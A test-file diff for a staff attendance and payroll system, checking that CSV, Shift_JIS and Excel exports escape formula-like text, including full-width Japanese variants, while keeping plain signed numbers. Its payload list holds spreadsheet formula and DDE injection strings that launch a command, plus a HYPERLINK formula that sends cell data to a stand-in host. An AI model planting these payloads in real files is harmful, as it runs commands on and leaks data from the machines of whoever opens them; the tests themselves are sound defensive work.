@@ -10,12 +10,16 @@ import { defaultPayrollLayout, writePayrollFile } from "../../src/attendance-rep
 import { buildApp } from "../../src/http/app";
 import { insertDepartment } from "../../src/org/department-repository";
 import { createStaff } from "../../src/org/staff-use-cases";
+import { unescapeFormula } from "../../src/staff-import/escape-formula";
 import { type Call, okJson, signInWithRoles } from "../access-api";
 import { describeEachDatabase } from "../databases";
 import { ingestAsReader } from "../ingest-as-reader";
 
 // Staff numbers may only hold letters, digits and hyphens, and may still start with one.
 const hostileStaffNumber = "-2-3";
+// A staff number or figure that is a plain number is not a formula: it must reach payroll as written.
+const plainStaffNumber = "-120";
+const plainFigures = { staffNumber: plainStaffNumber, departmentCode: "+3", otherDepartmentCode: "-0.5" };
 
 /** Text that a spreadsheet would run as a formula or DDE call if a cell began with it. */
 const payloads = {
@@ -25,12 +29,17 @@ const payloads = {
   at: "@SUM(1+1)*cmd|' /C calc'!A0",
   tab: "\t=1+1+cmd|' /C calc'!A0",
   carriageReturn: "\r=1+1+cmd|' /C calc'!A0",
+  // Japanese Excel reads the full-width forms (typed with the IME on) as the ASCII ones.
+  fullWidthEquals: '＝HYPERLINK("http://evil.example/?"&A1,"詳細")',
+  fullWidthPlus: "＋1＋cmd|' /C calc'!A0",
+  fullWidthMinus: "－2＋3＋cmd|' /C calc'!A0",
+  fullWidthAt: "＠SUM(1＋1)*cmd|' /C calc'!A0",
 } as const;
 const payloadList: string[] = Object.values(payloads);
 
-const formulaStart = /^[=+\-@\t\r]/;
-// Figures the files carry on purpose (a negative number is not a formula to escape).
-const plainNumber = /^-?\d+(?:\.\d+)?$/;
+const formulaStart = /^[=+\-@\t\r＝＋－＠]/;
+// Figures the files carry on purpose (a signed number is not a formula to escape).
+const plainNumber = /^[+-]?\d+(?:\.\d+)?$/;
 
 function cellsOf(table: readonly (readonly string[])[]): string[] {
   return table.flat();
@@ -47,6 +56,14 @@ function expectNeutralised(cells: readonly string[], expected: readonly string[]
       unified.some((cell) => cell.startsWith(`'${payload}`.replaceAll("\r", "\n"))),
       `${JSON.stringify(payload)} is missing`,
     ).toBe(true);
+  }
+}
+
+/** Each plain number went out as written: no quote in front, so payroll reads the same value. */
+function expectPlainNumbersKept(cells: readonly string[], figures: readonly string[]) {
+  for (const figure of figures) {
+    expect(cells, `${figure} is missing`).toContain(figure);
+    expect(cells).not.toContain(`'${figure}`);
   }
 }
 
@@ -107,6 +124,20 @@ describeEachDatabase("exports neutralise formula-like text", (context) => {
       });
       staffIds.push(staff.id);
     }
+    await createStaff(deps, "test", {
+      staffNumber: plainStaffNumber,
+      familyName: "数字",
+      givenName: "始まり",
+      familyNameKana: "スウジ",
+      givenNameKana: "ハジマリ",
+      employmentType: "regular",
+      startDate: "2020-04-01",
+      endDate: null,
+      email: null,
+      phone: plainFigures.departmentCode,
+      departmentId: department.id,
+      positionId: null,
+    });
     const area = okJson(await admin("POST", "/api/access/areas", { name: payloads.plus })).id;
     const inner = okJson(await admin("POST", "/api/access/areas", { name: payloads.at, parentId: area })).id;
     const door = okJson(
@@ -132,16 +163,32 @@ describeEachDatabase("exports neutralise formula-like text", (context) => {
   });
   afterAll(() => app.close());
 
-  it("escapes staff and department names in the staff CSV", async () => {
+  it("escapes staff and department names in the staff CSV and keeps plain numbers as written", async () => {
     const response = await admin("GET", "/api/staff-export?format=csv");
     expect(response.statusCode).toBe(200);
-    expectNeutralised(cellsOf(readCsv(response.rawPayload)), payloadList);
+    const cells = cellsOf(readCsv(response.rawPayload));
+    expectNeutralised(cells, payloadList);
+    expectPlainNumbersKept(cells, [plainStaffNumber, plainFigures.departmentCode]);
+    // The import reads each cell back to what was stored.
+    const imported = cells.map(unescapeFormula);
+    for (const value of [...payloadList, plainStaffNumber]) expect(imported).toContain(value);
   });
 
-  it("escapes staff and department names in the staff Excel file", async () => {
+  it("escapes the full-width forms in the Shift_JIS staff CSV too", async () => {
+    const response = await admin("GET", "/api/staff-export?format=csv&encoding=shift_jis");
+    expect(response.statusCode).toBe(200);
+    // The full-width ＝ ＋ － ＠ are JIS X 0208, so CP932 carries them unchanged.
+    const cells = cellsOf(readCsv(new TextDecoder("shift_jis").decode(response.rawPayload)));
+    expectNeutralised(cells, payloadList);
+    expectPlainNumbersKept(cells, [plainStaffNumber, plainFigures.departmentCode]);
+  });
+
+  it("escapes staff and department names in the staff Excel file and keeps plain numbers", async () => {
     const response = await admin("GET", "/api/staff-export?format=xlsx");
     expect(response.statusCode).toBe(200);
-    expectNeutralised(await readXlsxCells(response.rawPayload), payloadList);
+    const cells = await readXlsxCells(response.rawPayload);
+    expectNeutralised(cells, payloadList);
+    expectPlainNumbersKept(cells, [plainStaffNumber, plainFigures.departmentCode]);
   });
 
   it("escapes area, door, reader and holder names in the access log CSV", async () => {
@@ -160,8 +207,20 @@ describeEachDatabase("exports neutralise formula-like text", (context) => {
 /** The October fixture with every name, department and reason replaced by a payload. */
 function hostileReport(): MonthReport {
   const base = createMonthReport({
-    "1001": { name: payloads.equals, departmentName: payloads.plus, employmentType: payloads.at },
-    "1002": { name: payloads.tab, departmentName: payloads.carriageReturn, staffNumber: hostileStaffNumber },
+    "1001": {
+      name: payloads.equals,
+      departmentName: payloads.plus,
+      employmentType: payloads.at,
+      staffNumber: plainFigures.staffNumber,
+      departmentCode: plainFigures.departmentCode,
+    },
+    "1002": {
+      name: payloads.tab,
+      departmentName: payloads.carriageReturn,
+      employmentType: payloads.fullWidthMinus,
+      staffNumber: hostileStaffNumber,
+      departmentCode: plainFigures.otherDepartmentCode,
+    },
   });
   return {
     ...base,
@@ -183,16 +242,24 @@ describe("month outputs neutralise formula-like text", () => {
       columns: [
         { header: payloads.at, field: "name" as const },
         { header: payloads.plus, field: "departmentName" as const },
+        { header: payloads.fullWidthEquals, field: "staffNumber" as const },
+        { header: payloads.fullWidthPlus, field: "departmentCode" as const },
+        { header: payloads.fullWidthAt, field: "employmentType" as const },
         ...defaultPayrollLayout.columns,
       ],
     };
+    const figures = Object.values(plainFigures);
     const utf8 = writePayrollFile(hostileReport(), { ...layout, encoding: "utf8" });
     // Reasons are not part of the payroll file; every other payload is.
     const inPayroll = [...payloadList.filter((payload) => payload !== payloads.minus), hostileStaffNumber];
-    expectNeutralised(cellsOf(readCsv(utf8.body)), inPayroll);
+    const utf8Cells = cellsOf(readCsv(utf8.body));
+    expectNeutralised(utf8Cells, inPayroll);
+    expectPlainNumbersKept(utf8Cells, figures);
     const shiftJis = writePayrollFile(hostileReport(), { ...layout, encoding: "shift_jis" });
-    // Every payload is ASCII or kanji, so the Shift_JIS bytes hold the same cells.
-    expectNeutralised(cellsOf(readCsv(new TextDecoder("shift_jis").decode(shiftJis.body))), inPayroll);
+    // Every payload is ASCII, kanji or a JIS X 0208 full-width form, so the Shift_JIS bytes hold the same cells.
+    const shiftJisCells = cellsOf(readCsv(new TextDecoder("shift_jis").decode(shiftJis.body)));
+    expectNeutralised(shiftJisCells, inPayroll);
+    expectPlainNumbersKept(shiftJisCells, figures);
   });
 
   it.each(["attendance", "overtimeOrders", "leave"] as const)(
@@ -203,6 +270,8 @@ describe("month outputs neutralise formula-like text", () => {
       const expected =
         book === "leave" ? [payloads.equals, payloads.minus] : [payloads.equals, hostileStaffNumber];
       expectNeutralised(cells, expected);
+      // The first person's staff number is a plain number in every book.
+      expectPlainNumbersKept(cells, [plainStaffNumber]);
     },
   );
 
